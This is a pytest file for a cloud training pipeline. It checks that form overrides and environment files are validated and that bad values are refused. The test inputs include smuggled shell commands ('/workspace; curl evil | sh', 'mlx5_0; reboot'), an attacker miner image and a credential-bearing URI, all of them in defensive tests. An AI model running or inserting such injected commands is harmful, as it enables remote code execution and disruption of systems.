"""The trigger form is untrusted and the environment files are an administrator's: what configure refuses.

Each case is a value a triggerer (the form) or a broken environment file could carry; the run must
fail in its first task with the field and the fix, before anything is staged or submitted.
"""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import TYPE_CHECKING, Any

import jsonschema
import pytest

from aliyun_training.declaration import DeclarationError, declare
from aliyun_training.environments import LocalEnvironment, load_environment, load_local_environment
from aliyun_training.form import overrides_schema
from aliyun_training.spec import DATASET_VERSION_PATTERN
from aliyun_training.validation import SpecError, whole_string_pattern
from fakes.environment_files import resolve_configured, write_environment

if TYPE_CHECKING:
    from aliyun_training.plan.models import RunPlan

PROJECT_DIR = Path(__file__).resolve().parents[2]
DLC = {
    "quota_id": "quota1ab2",
    "allowed_quota_ids": ["quota9zz9"],
    "gpu_type": "GU8TF",
    "image": "registry.example.com/train:1",
    "workspace_id": "ws-9",
    "dataset": {"dataset_id": "d-cifar"},
}
ARENA = {"data_pvc": "cpfs-train", "image": "registry.example.com/train:1"}


def resolve(tmp_path: Path, environment: dict[str, Any] | None = None, **form: Any) -> RunPlan:
    return resolve_configured(tmp_path, environment, **form)


# -- the form may override only what is allow-listed ------------------------------------------------


@pytest.mark.parametrize(
    "key",
    [
        "alibaba_cloud_conn_id",
        "namespace",
        "image",
        "code_dir",
        "nccl_env",
        "staging",
        "image_build",
        "target_root",
    ],
)
def test_the_form_schema_refuses_every_setting_that_is_not_overridable(key: str) -> None:
    with pytest.raises(jsonschema.ValidationError, match="Additional properties are not allowed"):
        jsonschema.validate({key: "x"}, overrides_schema())


@pytest.mark.parametrize(
    ("backend", "environment", "overrides"),
    [
        ("dlc", DLC, {"namespace": "kube-system"}),
        ("dlc", DLC, {"code_dir": "/workspace; curl evil | sh"}),
        ("arena", ARENA, {"nccl_env": {"MASTER_ADDR": "10.0.0.1"}}),
        ("arena", ARENA, {"image": "evil.example.com/miner:1"}),
    ],
)
def test_configure_refuses_settings_the_form_may_not_change(
    tmp_path: Path, backend: str, environment: dict[str, Any], overrides: dict[str, Any]
) -> None:
    """What reaches configure without the form's own validation (the CLI, dag.test) is refused too."""
    with pytest.raises(
        SpecError, match=r"backend_overrides: Additional properties are not allowed .* was unexpected"
    ):
        resolve(tmp_path, environment, backend=backend, gpus_per_node=8, backend_overrides=overrides)


def test_allowed_overrides_change_the_job(tmp_path: Path) -> None:
    overrides = {"priority": 7, "rdma": False, "cpu_per_node": 16, "quota_id": "quota9zz9"}

    run = resolve(tmp_path, DLC, backend="dlc", gpus_per_node=8, backend_overrides=overrides)

    spec, dlc_settings = run.job.spec, run.job.backend_config["job_settings"]
    assert (dlc_settings["priority"], spec.rdma, spec.cpu, dlc_settings["quota_id"]) == (
        7,
        False,
        16,
        "quota9zz9",
    )


def test_a_quota_the_environment_does_not_offer_is_refused(tmp_path: Path) -> None:
    with pytest.raises(SpecError) as refused:
        resolve(tmp_path, DLC, backend="dlc", gpus_per_node=8, backend_overrides={"quota_id": "quota0other"})

    assert str(refused.value).startswith("backend_overrides.quota_id: 'quota0other' is not a quota")
    assert "['quota1ab2', 'quota9zz9']" in str(refused.value) and "allowed_quota_ids" in str(refused.value)


def test_dlc_only_overrides_are_refused_on_ack(tmp_path: Path) -> None:
    with pytest.raises(SpecError) as refused:
        resolve(tmp_path, ARENA, backend="arena", gpus_per_node=8, backend_overrides={"priority": 3})

    assert "backend_overrides: ['priority'] cannot be overridden on the arena backend" in str(refused.value)
    assert "cpu_per_node" in str(refused.value), "the error lists what may be overridden"


def test_overrides_the_runs_backend_would_not_read_are_refused(tmp_path: Path) -> None:
    with pytest.raises(SpecError) as local:
        resolve(tmp_path, backend="local", backend_overrides={"cpu_per_node": 4})
    with pytest.raises(SpecError) as cpu_only:
        resolve(
            tmp_path, DLC, backend="dlc", gpus_per_node=0, backend_overrides={"shared_memory_gib_per_node": 8}
        )

    assert (
        "cannot be overridden on the local backend (fix: leave them out; the form may override nothing"
        in str(local.value)
    )
    assert "shared memory on GPU nodes only" in str(cpu_only.value)


def test_a_pinned_image_must_come_from_a_repository_of_the_environment(tmp_path: Path) -> None:
    with pytest.raises(SpecError, match=r"^image: 'evil.example.com/miner:1' is not from a repository"):
        resolve(tmp_path, DLC, backend="dlc", gpus_per_node=8, image="evil.example.com/miner:1")

    allowed = {**DLC, "allowed_image_repositories": ["registry.example.com/experiments"]}
    run = resolve(
        tmp_path, allowed, backend="dlc", gpus_per_node=8, image="registry.example.com/experiments:3"
    )
    assert run.image is not None and run.image.pinned == "registry.example.com/experiments:3"


# -- typed values: whole strings, integers --------------------------------------------------------


def test_a_version_with_a_trailing_newline_is_refused_by_the_form_and_by_configure(tmp_path: Path) -> None:
    form_schema = {"type": "string", "pattern": whole_string_pattern(DATASET_VERSION_PATTERN)}
    jsonschema.validate("v1", form_schema)
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate("v1\n", form_schema)

    with pytest.raises(
        SpecError, match=r"dataset_version: 'v1\\n' is not of the required form \(fix: use letters"
    ):
        resolve(tmp_path, dataset_version="v1\n")
    assert not (tmp_path / "cpfs").exists()


def test_an_integral_float_reaches_the_command_as_an_integer(tmp_path: Path) -> None:
    run = resolve(tmp_path, epochs=2.0, batch_size=64.0)

    assert "--epochs 2 --batch-size 64" in run.job.spec.command


@pytest.mark.parametrize(
    ("form", "message"),
    [
        (
            {"epochs": 2.5},
            r"epochs: 2.5 is not a whole number \(fix: use a whole number, at least 1 and at most 100\)",
        ),
        ({"nodes": 1.5}, r"nodes: 1.5 is not a whole number \(fix: use a whole number from 1 up to 16\)"),
    ],
)
def test_a_fractional_count_is_refused_naming_the_field(
    tmp_path: Path, form: dict[str, Any], message: str
) -> None:
    with pytest.raises(SpecError, match=message):
        resolve(tmp_path, **form)


# -- malformed environment files ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"[1, 2]", r"holds a JSON list, not an object of settings \(fix: "),
        (b"null", r"holds a JSON null, not an object of settings"),
        (b'{"region": "cn-wulanchabu\xff"}', r"is not UTF-8 text .*fix: save it as UTF-8"),
    ],
)
def test_an_environment_file_that_is_not_an_object_of_settings_is_refused(
    tmp_path: Path, content: bytes, message: str
) -> None:
    path = tmp_path / "dlc.json"
    path.write_bytes(content)

    with pytest.raises(SpecError, match=message):
        load_environment(path, "dlc")


@pytest.mark.parametrize(
    ("backend", "settings", "message"),
    [
        ("dlc", {"vpc": "vpc-1"}, r"vpc: Input should be a valid dictionary"),
        (
            "dlc",
            {"cpu_per_node": "many"},
            r"cpu_per_node: Input should be a valid integer.*\(fix: use 1 to 512",
        ),
        ("dlc", {"quota": "x"}, r"quota: Extra inputs are not permitted"),
        (
            "dlc",
            {"vpc": {"extended_cidrs": ["10.0.0.0/33"]}},
            r"vpc.extended_cidrs.0: not a CIDR block: '10.0.0.0/33' does not appear",
        ),
        (
            "dlc",
            {"staging": {"source_uri": "oss://ml-bucket/{0}/"}},
            r"staging.source_uri: .*placeholders other than",
        ),
        ("dlc", {"staging": {"source_uri": "oss://ml-bucket/{x}/{version}/"}}, r"other than .*'\{x\}'"),
        ("dlc", {"staging": {"source_uri": "oss://ml-bucket/{dataset}/"}}, r"has no \{version\}"),
        ("dlc", {"staging": {"source_uri": "oss://ml-bucket/{version!r}/"}}, r"other than .*'\{version\}'"),
        ("dlc", {"staging": {"source_uri": "oss://ml-bucket/{version"}}, r"is not a valid template"),
        ("dlc", {"code_dir": "workspace"}, r"code_dir: 'workspace' is not an absolute path"),
        (
            "dlc",
            {"output_uri": "oss://ML_Bucket/out/"},
            r"output_uri: 'ML_Bucket' in .* is not an OSS bucket name",
        ),
        (
            "dlc",
            {"artifact_root": "oss://ab/models/"},
            r"artifact_root: 'ab' in .* is not an OSS bucket name",
        ),
        (
            "dlc",
            {"output_uri": "oss://ml-bucket.evil.example.com/o/"},
            r"'evil.example.com' in .* is not an OSS endpoint",
        ),
        (
            "dlc",
            {"staging": {"source_uri": "oss://-x-/{version}/"}},
            r"staging.source_uri: '-x-' in .* not an OSS bucket",
        ),
        (
            "arena",
            {"namespace": "Team A"},
            r"namespace: 'Team A' is not a DNS-1123 label.*\(fix: use the namespace's name",
        ),
        ("arena", {"max_gpus_per_node": 0}, r"max_gpus_per_node: Input should be greater than or equal to 1"),
        ("arena", {"nccl_env": {"NCCL_DEBUG": 1}}, r"nccl_env.NCCL_DEBUG: Input should be a valid string"),
        ("arena", {"nccl_env": ["NCCL_DEBUG=INFO"]}, r"nccl_env: Input should be a valid dictionary"),
        ("arena", {"data_pvc": "CPFS_claim"}, r"data_pvc: 'CPFS_claim' is not a DNS-1123 subdomain"),
        ("arena", {"rdma_check": {"device": "mlx5_0; reboot"}}, r"rdma_check.device: String should match"),
    ],
)
def test_a_malformed_setting_fails_naming_the_file_the_key_path_and_the_fix(
    tmp_path: Path, backend: str, settings: dict[str, Any], message: str
) -> None:
    path = write_environment(tmp_path, backend, settings)

    with pytest.raises(SpecError) as refused:
        load_environment(path, backend)

    assert str(refused.value).startswith(f"environment file {path}:")
    assert refused.match(message)


def test_the_shipped_environment_files_parse(tmp_path: Path) -> None:
    for backend, connection in (("dlc", "alibaba_cloud_conn_id"), ("arena", "kubernetes_conn_id")):
        shipped = PROJECT_DIR / "include" / "config" / f"{backend}.json"
        named = json.loads(shipped.read_text())[connection]
        assert named and getattr(load_environment(shipped, backend), connection) == named


# -- configure applies exactly the form's schema ----------------------------------------------------


@pytest.mark.parametrize(
    ("form", "message"),
    [
        (
            {"epoch": 3},
            r"epoch: not a field of cifar10_retrain's form \(fix: remove it; the fields are backend,",
        ),
        ({"nodes": "2"}, r"nodes: '2' is not of type integer \(fix: use a whole number from 1 up to 16\)"),
        ({"dry_run": "yes"}, r"dry_run: 'yes' is not of type boolean \(fix: use true or false\)"),
        ({"timeout_minutes": 50_000}, r"timeout_minutes: 50000 is greater than the maximum of 43200"),
        (
            {"nodes": 17},
            r"nodes: 17 is greater than the maximum of 16 \(fix: use a whole number from 1 up to 16\)",
        ),
        (
            {"epochs": -1},
            r"epochs: -1 is less than the minimum of 1 \(fix: use a whole number, at least 1 and at most",
        ),
        ({"backend": "sagemaker"}, r"backend: 'sagemaker' is not one of \['local', 'dlc', 'arena'\]"),
        ({"image": "evil"}, r"image: 'evil' is not of the required form \(fix: give a tag or digest"),
    ],
)
def test_configure_refuses_what_the_form_refuses_and_keys_the_form_does_not_have(
    tmp_path: Path, form: dict[str, Any], message: str
) -> None:
    with pytest.raises(SpecError, match=message):
        resolve(tmp_path, **form)


def test_the_form_and_configure_share_one_schema_and_accept_the_same_values(tmp_path: Path) -> None:
    from aliyun_training.form import form_schema
    from aliyun_training.params import run_params
    from fakes.environment_files import cifar10

    declaration = cifar10()
    params, schema = run_params(declaration), form_schema(declaration)

    assert set(params) == set(schema)
    for name, param in params.items():
        # A Param keeps its bounds under allOf, beside their fix (form.param_schemas).
        carried = {key: value for key, value in param.schema.items() if key != "allOf"}
        for bounds in param.schema.get("allOf", []):
            carried |= {key: value for key, value in bounds.items() if key != "description"}
        assert {key: carried[key] for key in schema[name]} == schema[name], name
    assert resolve(tmp_path, timeout_minutes=20_000).job.spec.timeout_minutes == 20_000


# -- environment files say which pipelines may use them ------------------------------------------


@pytest.mark.parametrize(
    ("policy", "refusal"),
    [
        (
            {"allowed_pipelines": ["team_b_*"]},
            r"its allowed_pipelines \['team_b_\*'\] do not match 'cifar10_retrain'",
        ),
        (
            {"allowed_owners": ["team-b"]},
            r"its allowed_owners \['team-b'\] do not include the pipeline's owner 'ml-platform'",
        ),
    ],
)
def test_configure_refuses_an_environment_file_that_does_not_allow_the_pipeline(
    tmp_path: Path, policy: dict[str, Any], refusal: str
) -> None:
    with pytest.raises(
        SpecError, match=rf"environment file .*dlc.json is not for pipeline cifar10_retrain: {refusal}"
    ):
        resolve(tmp_path, {**DLC, **policy}, backend="dlc")

    allowed = {"allowed_pipelines": ["cifar10_*"], "allowed_owners": ["ml-platform"]}
    assert resolve(tmp_path, {**DLC, **allowed}, backend="dlc").backend.value == "dlc"


# -- what a refusal says is no leak of its own ------------------------------------------------------


@pytest.mark.parametrize(
    "uri",
    [
        "https://mlflow.internal/api?token=s3cr3t-value",
        "https://mlflow.internal/api?X-Amz-Signature=s3cr3t-value",
        "https://ml:s3cr3t-value@mlflow.internal/",
    ],
)
def test_a_tracking_uri_with_credentials_is_refused_without_repeating_them(tmp_path: Path, uri: str) -> None:
    """The refusal is the DAG file's import error, which every UI user reads: it names the field
    and the parameter, never the secret."""
    data = {
        "pipeline": {"dag_id": "leak_probe"},
        "dataset": {"name": "probe"},
        "training": {"code_dir": "code", "command": "python train.py"},
        "registry": {"tracking_uri": uri},
    }

    with pytest.raises(
        DeclarationError, match=r"registry\.tracking_uri: the URI carries credentials"
    ) as refused:
        declare(data, base_dir=tmp_path)
    assert "s3cr3t-value" not in str(refused.value)
    assert "MLFLOW_TRACKING_TOKEN" in str(refused.value), "the fix says where credentials go"


def test_a_local_environment_file_that_is_not_a_regular_file_is_refused_not_read_as_defaults(
    tmp_path: Path,
) -> None:
    """local.json is optional (absent: the defaults), but one that is there must be a file: a FIFO
    blocked the reader forever, and a folder must not silently mean the defaults."""
    fifo = tmp_path / "local.json"
    os.mkfifo(fifo)

    with pytest.raises(SpecError, match=rf"environment file {fifo} is not a regular file \(fix: "):
        load_local_environment(fifo)
    assert load_local_environment(tmp_path / "absent.json") == LocalEnvironment()


def test_the_declarations_cron_presets_are_airflows() -> None:
    """The declaration expands presets itself (it imports nothing of Airflow): they must not drift."""
    from airflow.utils.dates import cron_presets

    from aliyun_training.declaration import CRON_PRESETS

    assert cron_presets == CRON_PRESETS
